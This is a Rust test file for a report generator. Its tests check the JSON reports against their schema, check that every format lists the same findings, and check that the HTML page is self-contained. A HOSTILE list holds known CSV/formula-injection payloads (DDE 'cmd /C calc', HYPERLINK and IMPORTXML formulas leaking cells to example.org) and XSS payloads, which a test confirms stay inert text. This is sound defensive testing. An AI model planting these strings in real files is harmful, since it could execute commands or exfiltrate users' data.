//! The reports: the JSON as its published schema says, the same findings in every format, and text that stays text in all of them.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use csp_bridge::finding::{Acceptance, Hold, Severity};
use csp_bridge::pipeline::Outcome;
use csp_bridge::render::{self, Context};
use csp_bridge::{read, write};
use serde_json::Value;

use crate::{case, workbook};

/// The part of JSON Schema that the published schema uses; a word it does not know fails the test, so that nothing is left unchecked.
fn mistakes(value: &Value, schema: &Value, root: &Value, at: &str, out: &mut Vec<String>) {
    for (word, rule) in schema.as_object().unwrap() {
        match word.as_str() {
            "$schema" | "$id" | "$defs" | "title" | "description" => {}
            "$ref" => {
                let target = rule.as_str().unwrap().trim_start_matches('#');
                mistakes(value, root.pointer(target).unwrap(), root, at, out);
            }
            "const" => {
                if value != rule {
                    out.push(format!("{at}: {value} is not {rule}"));
                }
            }
            "enum" => {
                if !rule.as_array().unwrap().contains(value) {
                    out.push(format!("{at}: {value} is none of {rule}"));
                }
            }
            "type" => {
                let name = match value {
                    Value::Null => "null",
                    Value::Bool(_) => "boolean",
                    Value::Number(_) => "integer",
                    Value::String(_) => "string",
                    Value::Array(_) => "array",
                    Value::Object(_) => "object",
                };
                let is_allowed = rule.as_str() == Some(name)
                    || rule
                        .as_array()
                        .is_some_and(|all| all.iter().any(|one| one == name));
                if !is_allowed {
                    out.push(format!("{at}: {value} is no {rule}"));
                }
            }
            "minimum" => {
                if value.as_i64() < rule.as_i64() {
                    out.push(format!("{at}: {value} is below {rule}"));
                }
            }
            "pattern" => {
                let pattern = regex::Regex::new(rule.as_str().unwrap()).unwrap();
                if value.as_str().is_some_and(|text| !pattern.is_match(text)) {
                    out.push(format!("{at}: {value} does not match {rule}"));
                }
            }
            "items" => {
                for (index, item) in value.as_array().into_iter().flatten().enumerate() {
                    mistakes(item, rule, root, &format!("{at}/{index}"), out);
                }
            }
            "properties" => {
                for (key, rule) in rule.as_object().unwrap() {
                    if let Some(part) = value.get(key) {
                        mistakes(part, rule, root, &format!("{at}/{key}"), out);
                    }
                }
            }
            "required" => {
                for key in rule.as_array().unwrap() {
                    if value.is_object() && value.get(key.as_str().unwrap()).is_none() {
                        out.push(format!("{at}: {key} is missing"));
                    }
                }
            }
            "additionalProperties" => {
                let known = schema["properties"].as_object().unwrap();
                for key in value.as_object().into_iter().flat_map(|o| o.keys()) {
                    if !known.contains_key(key) {
                        out.push(format!("{at}: {key} is not in the schema"));
                    }
                }
            }
            "anyOf" => {
                let fits = rule.as_array().unwrap().iter().any(|one| {
                    let mut found = Vec::new();
                    mistakes(value, one, root, at, &mut found);
                    found.is_empty()
                });
                if !fits {
                    out.push(format!("{at}: {value} is none of the allowed"));
                }
            }
            other => panic!("the schema says {other}, which this test does not know"),
        }
    }
}

fn sample() -> Outcome {
    workbook::run(&workbook::plan(), &workbook::returns())
}

#[test]
fn the_json_report_is_what_its_schema_says() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("schemas/report-1.schema.json");
    let schema: Value = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
    let report: Value =
        serde_json::from_slice(&write::json::report(&sample(), &case::schema())).unwrap();
    let mut out = Vec::new();
    mistakes(&report, &schema, &schema, "", &mut out);
    assert!(out.is_empty(), "{out:#?}");
    // The test can fail: a report with a field renamed does.
    let mut spoilt = report.clone();
    spoilt["run"]["as-of"] = spoilt["run"]["as_of"].take();
    mistakes(&spoilt, &schema, &schema, "", &mut out);
    assert!(!out.is_empty());
    assert_eq!(report["format"], write::json::FORMAT);
}

#[test]
fn every_report_tells_the_same_findings() {
    let outcome = sample();
    let schema = case::schema();
    let told: BTreeSet<&str> = outcome.findings.iter().map(|f| f.id.as_str()).collect();
    assert_eq!(
        told.len(),
        outcome.findings.len(),
        "an id stands for one finding"
    );
    assert!(!told.is_empty());
    for (name, bytes) in [
        ("json", write::json::report(&outcome, &schema)),
        ("csv", write::csv::findings(&outcome).unwrap()),
        ("html", write::html::findings(&outcome, &schema)),
        ("md", write::markdown::findings(&outcome, &schema)),
    ] {
        let text = String::from_utf8(bytes).unwrap();
        for id in &told {
            assert!(text.contains(id), "{name} lacks the finding {id}");
        }
    }
    let bytes = write::csv::findings(&outcome).unwrap();
    let mut csv = csv::Reader::from_reader(&bytes[3..]);
    assert_eq!(csv.records().count(), outcome.findings.len());
}

#[test]
fn the_page_needs_nothing_from_elsewhere() {
    let page = String::from_utf8(write::html::findings(&sample(), &case::schema())).unwrap();
    for word in [
        "http://", "https://", "src=", "url(", "@import", "<link", "<iframe", "<img",
    ] {
        assert!(!page.contains(word), "the page has {word}");
    }
    assert!(page.contains("<html lang=\"en-GB\">") && page.contains("default-src 'none'"));
    // Every column is headed, every filter labelled.
    assert!(page.contains("<th scope=\"col\">Severity</th>"));
    assert_eq!(page.matches("<select").count(), 3);
    assert_eq!(page.matches("<label for=").count(), 4);
}

/// Published strings with which text has run as a formula or as markup, in a return's every kind of text.
const HOSTILE: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org?leak=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.org/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=WEBSERVICE(\"http://example.org\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1",
    "＝1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
];

/// The strings as updates, as references and as unknown statuses, so that they reach cells, messages and raw values.
fn hostile() -> Outcome {
    let rows: Vec<String> = (2..)
        .zip(HOSTILE)
        .map(|(row, text)| {
            // A bar would end a cell of the case's table.
            let text = text.replace('|', "¦");
            format!("| {row} | SAC-0{} | {text} | {text} |", row % 7 + 1)
        })
        .collect();
    let sheet = format!(
        "## case\n\n| kent-police-q2-2022-23.xlsx › Updates | A | B | C |\n|---|---|---|---|\n| 1 | Ref | Update | Status |\n{}\n",
        rows.join("\n")
    );
    let mut case = case::parse(&sheet).pop().unwrap();
    if let Some(case::File::Sheets(sheets)) = case.files.values_mut().next() {
        let cells = sheets[0]
            .cells()
            .iter()
            .map(|cell| {
                let mut cell = cell.clone();
                if let csp_bridge::grid::CellValue::Text(text) = &cell.value {
                    cell.value = csp_bridge::grid::CellValue::Text(text.replace('¦', "|").into());
                }
                cell
            })
            .collect();
        sheets[0] = csp_bridge::grid::Worksheet::new(sheets[0].name.clone(), cells);
    }
    case::run(&case, &case::schema())
}

#[test]
fn hostile_text_stays_text_in_every_output() {
    let outcome = hostile();
    let schema = case::schema();
    assert!(!outcome.findings.is_empty());

    let xlsx =
        write::xlsx::write(&render::workbook(&Context::new(&outcome, &schema, &[]))).unwrap();
    let book = read::workbook(&xlsx).unwrap();
    let said = |text: &str| {
        book.sheets.iter().any(|sheet| {
            sheet.cells().iter().any(|cell| {
                cell.value
                    .as_text()
                    .is_some_and(|t| t.contains(text.trim()))
            })
        })
    };
    for text in HOSTILE {
        assert!(said(text), "{text} is not in the workbook as it was typed");
    }
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&xlsx)).unwrap();
    for index in 0..archive.len() {
        let mut part = archive.by_index(index).unwrap();
        let mut xml = String::new();
        let _ = std::io::Read::read_to_string(&mut part, &mut xml);
        for formula in xml.split("<f>").skip(1) {
            let formula = formula.split("</f>").next().unwrap();
            for word in [
                "cmd",
                "HYPERLINK",
                "IMPORTXML",
                "WEBSERVICE",
                "DDE",
                "alert",
            ] {
                assert!(!formula.contains(word), "a partner's text became {formula}");
            }
        }
        assert!(
            !xml.contains("example.org\" TargetMode"),
            "a partner's text became a link"
        );
    }

    let csv_bytes = write::csv::findings(&outcome).unwrap();
    let mut csv = csv::Reader::from_reader(&csv_bytes[3..]);
    for record in csv.records() {
        for field in &record.unwrap() {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']),
                "{field} could run"
            );
        }
    }

    let page = String::from_utf8(write::html::findings(&outcome, &schema)).unwrap();
    assert!(!page.contains("<script>alert") && !page.contains("<img"));
    assert_eq!(page.matches("<script>").count(), 1);

    let markdown = String::from_utf8(write::markdown::findings(&outcome, &schema)).unwrap();
    let unescaped = markdown.replace("\\<", "");
    assert!(!unescaped.contains("<script") && !unescaped.contains("<img"));
    assert!(
        !markdown.contains("http://"),
        "a partner's text became a link"
    );
}

#[test]
fn the_page_begins_with_errors_and_shows_what_is_accepted_as_such() {
    let mut outcome = sample();
    let accepted = outcome
        .findings
        .iter_mut()
        // One that only records a reason would be on no list.
        .find(|finding| finding.severity == Severity::Error && finding.would_hold != Hold::None)
        .unwrap();
    accepted.accepted = Some(Acceptance {
        reason: "Agreed".to_owned(),
        role: "Chair".to_owned(),
        until: None,
    });
    let id = accepted.id.clone();
    let page = String::from_utf8(write::html::findings(&outcome, &case::schema())).unwrap();
    let severities: Vec<&str> = page
        .split("data-severity=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .collect();
    let rank = |word: &&str| {
        ["error", "warning", "information"]
            .iter()
            .position(|w| w == word)
    };
    assert!(
        severities.len() > 5 && severities.is_sorted_by_key(rank),
        "{severities:?}"
    );
    let row = page.split(&format!("id=\"f{id}\"")).nth(1).unwrap();
    assert!(
        row.split("</tr>")
            .next()
            .unwrap()
            .contains("class=\"accepted\">accepted error")
    );
}
